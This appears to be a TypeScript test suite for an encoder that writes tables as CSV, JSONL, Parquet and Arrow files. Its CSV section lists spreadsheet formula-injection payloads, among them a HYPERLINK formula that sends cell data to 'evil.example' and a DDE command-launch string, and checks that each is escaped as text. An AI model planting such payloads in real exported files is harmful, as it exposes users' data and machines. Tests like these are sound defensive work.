import { tableFromIPC } from 'apache-arrow';
import { parquetMetadata } from 'hyparquet';
import { describe, expect, it } from 'vitest';
import type { Cells, Column } from '../../src/downloads/columns.ts';
import { type FormatName, formatNames, formats } from '../../src/downloads/formats.ts';
import type { TableDescription } from '../../src/downloads/table-description.ts';
import { askDuckDb, expectedRow, openInSpreadsheet, readWithDuckDb, readWithPolars } from './readers.ts';

const columns: Column[] = [
  { name: 'day', type: 'DATE', unit: null, description: 'A day.' },
  { name: 'model', type: 'TEXT', unit: null, description: 'A model.' },
  { name: 'total_tokens', type: 'INTEGER', unit: 'tokens', description: 'Tokens.' },
  { name: 'spend_usd', type: 'DECIMAL', unit: 'USD', description: 'Money.' },
  { name: 'share', type: 'FLOAT', unit: 'share, 0 to 1', description: 'A share.' },
  { name: 'reasoning', type: 'BOOLEAN', unit: null, description: 'Yes or no.' },
];

const rows: Cells[] = [
  ['2024-02-29', 'openai/gpt', 2 ** 31 + 1, '12345678901234567890.000000000000000001', 0.1, true],
  ['1969-12-31', 'Größe, "quoted"\nand a line', Number.MAX_SAFE_INTEGER, '0.1', 1 / 3, false],
  [null, null, null, null, null, null],
  ['9999-12-31', '模型 🤖', 0, '0', 0, null],
  ['2024-01-01', 'last', -1, '-0.5', -1e-12, true],
];

const about: TableDescription = {
  title: 'A table',
  dataset: 'made',
  release: 'made@2024-01-01.1',
  publishedAt: '2024-01-01T00:00:00.000Z',
  asOf: '2024-01-01',
  licence: 'CC0-1.0',
  licenceUrl: null,
  citation: 'Somebody (2024). A table.',
  bibtex: '@misc{table}',
  citeAs: 'https://atlas.example/releases/made@2024-01-01.1',
  url: 'https://atlas.example/download/usage.csv',
  synthetic: true,
  report: { shareOf: 'Of all rows.' },
};

async function* inBatches(all: readonly Cells[], size: number): AsyncGenerator<readonly Cells[]> {
  for (let start = 0; start < all.length; start += size) yield all.slice(start, start + size);
}

async function encode(format: FormatName, all: readonly Cells[], of = columns, size = 2): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of formats[format].encode(of, inBatches(all, size), about)) {
    chunks.push(Buffer.from(chunk as string));
  }
  return Buffer.concat(chunks);
}

const expected = rows.map((row) => expectedRow(columns, row));

describe('a table as a file', () => {
  it.each(['CSV', 'JSONL', 'PARQUET'] as const)('of %s is read by DuckDB as it was', async (format) => {
    expect(await readWithDuckDb(format, await encode(format, rows), columns)).toEqual(expected);
  });

  it.each(['ARROW', 'PARQUET'] as const)('of %s is read by polars as it was', async (format) => {
    expect(readWithPolars(format, await encode(format, rows), columns)).toEqual(expected);
  });

  it.each(['PARQUET', 'ARROW', 'CSV', 'JSONL'] as const)(
    'of %s has all rows of many batches',
    async (format) => {
      const many = Array.from({ length: 50_001 }, (_, index): Cells => {
        const isMissing = index % 7 === 0;
        return [
          '2024-01-01',
          `model-${index % 300}`,
          isMissing ? null : 2 ** 40 + index,
          `${index}.25`,
          index / 3,
          index % 2 === 0,
        ];
      });
      const bytes = await encode(format, many, columns, 2_000);
      const found =
        format === 'ARROW'
          ? readWithPolars(format, bytes, columns)
          : await readWithDuckDb(format, bytes, columns);
      expect(found).toEqual(many.map((row) => expectedRow(columns, row)));
    },
  );

  it.each(formatNames)('of %s without rows is a file all the same', async (format) => {
    const bytes = await encode(format, []);
    if (format === 'JSONL') expect(bytes).toHaveLength(0);
    else if (format === 'ARROW') expect(tableFromIPC(bytes).numRows).toBe(0);
    else expect(await readWithDuckDb(format, bytes, columns)).toEqual([]);
  });

  it('has the types of its columns in Parquet and Arrow', async () => {
    const described = await askDuckDb(
      await encode('PARQUET', rows),
      'DESCRIBE SELECT * FROM read_parquet(FILE)',
    );
    expect(described.map((column) => column.column_type)).toEqual([
      'DATE',
      'VARCHAR',
      'BIGINT',
      'DECIMAL(38,18)',
      'DOUBLE',
      'BOOLEAN',
    ]);
    const table = tableFromIPC(await encode('ARROW', rows));
    expect(table.schema.fields.map(({ type }) => String(type))).toEqual([
      'Date32<DAY>',
      'Utf8',
      'Int64',
      'Decimal[38e+18]',
      'Float64',
      'Bool',
    ]);
  });

  it('says in Parquet and Arrow where it comes from, how to cite it, and units and definitions', async () => {
    const parquet = await encode('PARQUET', rows);
    const pairs = parquetMetadata(new Uint8Array(parquet).buffer).key_value_metadata ?? [];
    const arrow = tableFromIPC(await encode('ARROW', rows)).schema;
    for (const found of [new Map(pairs.map(({ key, value }) => [key, value])), arrow.metadata]) {
      expect(Object.fromEntries(found)).toMatchObject({
        release: 'made@2024-01-01.1',
        licence: 'CC0-1.0',
        citation: 'Somebody (2024). A table.',
        bibtex: '@misc{table}',
        citeAs: about.citeAs,
        synthetic: 'true',
      });
      expect(JSON.parse(found.get('columns')!)).toEqual(columns);
      expect(JSON.parse(found.get('report')!)).toEqual(about.report);
    }
    expect(arrow.fields[2]!.metadata.get('unit')).toBe('tokens');
    expect(arrow.fields[2]!.metadata.get('description')).toBe('Tokens.');
  });

  it.each(['PARQUET', 'ARROW'] as const)('of %s that was cut off can not be opened', async (format) => {
    const many = Array.from({ length: 45_000 }, (): Cells => rows[0]!);
    const whole = await encode(format, many);
    const cut = whole.subarray(0, Math.floor(whole.length * 0.8));
    if (format === 'PARQUET') await expect(readWithDuckDb(format, cut, columns)).rejects.toThrow();
    else expect(() => readWithPolars(format, cut, columns)).toThrow();
  });
});

describe('CSV', () => {
  const text: Column[] = [
    { name: 'name', type: 'TEXT', unit: null, description: 'Text.' },
    { name: 'number', type: 'INTEGER', unit: null, description: 'A number.' },
    { name: 'money', type: 'DECIMAL', unit: 'USD', description: 'Money.' },
  ];
  const attacks = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    '＝1+1',
  ];

  it('is RFC 4180: a header, commas, CRLF, doubled quotes', async () => {
    const bytes = await encode(
      'CSV',
      [
        ['a,"b"', 1, '1.5'],
        [null, null, null],
      ],
      text,
    );
    expect(bytes.toString()).toBe('name,number,money\r\n"a,""b""",1,1.5\r\n,,\r\n');
  });

  it.each(attacks)('shows %j in a spreadsheet instead of running it', async (attack) => {
    const bytes = await encode('CSV', [[attack, -5, '-0.25']], text);
    const [row] = openInSpreadsheet(bytes);
    expect(row!.name).toMatchObject({ t: 's', v: `'${attack}` });
    expect(row!.name!.f).toBeUndefined();
    const [read] = await readWithDuckDb('CSV', bytes, text);
    expect(read!.name).toBe(`'${attack}`);
  });

  it('leaves negative numbers as numbers', async () => {
    const bytes = await encode('CSV', [['plain', -5, '-0.25']], text);
    expect(bytes.toString()).toContain('plain,-5,-0.25');
    const [row] = openInSpreadsheet(bytes);
    expect([row!.number, row!.money].map((cell) => [cell!.t, cell!.v])).toEqual([
      ['n', -5],
      ['n', -0.25],
    ]);
  });
});
